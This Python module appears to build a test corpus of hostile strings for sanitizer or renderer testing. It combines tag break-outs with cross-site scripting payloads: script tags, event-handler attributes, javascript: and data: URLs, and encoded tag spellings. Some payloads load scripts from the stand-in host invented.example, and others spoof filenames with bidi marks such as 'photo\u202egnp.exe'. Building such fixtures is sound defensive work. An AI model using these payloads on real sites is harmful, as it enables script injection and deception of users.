"""Text that tries to be more than text: over 700 strings, in families by the way they try.

What acts would call `alert`, ask invented.example for something, or change what stands around it.
"""

from __future__ import annotations

import tomllib
from itertools import product
from pathlib import Path

_WAYS_OUT = (
    "", '">', "'>", "</title>", "</style>", "</script>", "</textarea>", "</pre>", "</bdi>", "-->", "]]>", "</svg>",
    "</table>", "</details>", "</template>", "</code></p>",
)  # fmt: skip
_ACTS = (
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>", "<script src=//invented.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<img src=//invented.example/x.png>", "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<iframe src=//invented.example>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<link rel=stylesheet href=//invented.example/x.css>",
)  # fmt: skip
_EVENTS = (
    "onmouseover", "onfocus", "onclick", "onload", "onerror", "onanimationstart", "ontoggle", "onpointerenter",
    "onscroll", "oncontentvisibilityautostatechange", "onbeforematch", "ontransitionend",
)  # fmt: skip
_HOLDERS = ("{}", "<a href='{}'>x</a>", "<img src='{}'>", "<object data='{}'></object>", "[x]({})", "![x]({})")
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    " javascript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
    "javascript:/*--></title></style></script>*/alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "//invented.example/x",
    "http://invented.example/x", "https://user:pass@invented.example/", "\\\\invented.example\\share", "blob:null/x",
    "file://invented.example/etc/passwd", "view-source:about:blank", "about:blank#<script>alert(1)</script>",
)  # fmt: skip
_SPELLINGS = (
    "&lt;{}&gt;", "&LT;{}&GT;", "&#60;{}&#62;", "&#x3c;{}&#x3e;", "&#0000060;{}&#0000062;", "&lt{}&gt",
    "&amp;lt;{}&amp;gt;", "%3C{}%3E", "%253C{}%253E", "\\u003c{}\\u003e", "\\x3c{}\\x3e", "\\74{}\\76",
    "\uff1c{}\uff1e", "\u2039{}\u203a", "\ufe64{}\ufe65", "+ADw-{}+AD4-", "\u00bc{}\u00be", "\x1b(J<{}>",
)  # fmt: skip
_DIRECTIONS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_UNSEEN = (
    "\u00ad\u034f\u115f\u180e\u200b\u200c\u200d\u2028\u2029\u2060\u2061\u2064\u206a\u206f\u3164\ufe0f\ufeff\uffa0"
    "\ufff9\ufffb\ufffe\uffff\ufdd0\U000e0041\U000e0100"
)
_BY_RULE = {
    "script": [way + act for way, act in product(_WAYS_OUT, _ACTS)],
    "attribute": [f"x{quote} {event}={quote}alert(1)" for quote, event in product(('"', "'", "", "`"), _EVENTS)],
    "url": [holder.format(address) for holder, address in product(_HOLDERS, _ADDRESSES)],
    "entity": [form.format(tag) for form, tag in product(_SPELLINGS, ("script", "img src=x onerror=alert(1)"))],
    "bidi": [f"photo{mark}gnp.exe" for mark in _DIRECTIONS + _UNSEEN] + ["\u202e" * 300, "\u2066" * 300],
    "control": [f"a{chr(code)}b" for code in (*range(1, 32), *range(127, 160))],
    "naughty": [
        "a" * 600,
        "x " * 200,
        "<b>" * 300,
        "\u00e9" * 300,
        "e\u0301" * 200,
        "Z\u0335\u0321" * 40,
        "\u200d" * 50,
    ],
}
_WRITTEN: dict[str, list[str]] = tomllib.loads(Path(__file__).with_suffix(".toml").read_text(encoding="utf-8"))

FAMILIES = {name: _BY_RULE.get(name, []) + _WRITTEN.get(name, []) for name in sorted({*_BY_RULE, *_WRITTEN})}
HOSTILE: tuple[str, ...] = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
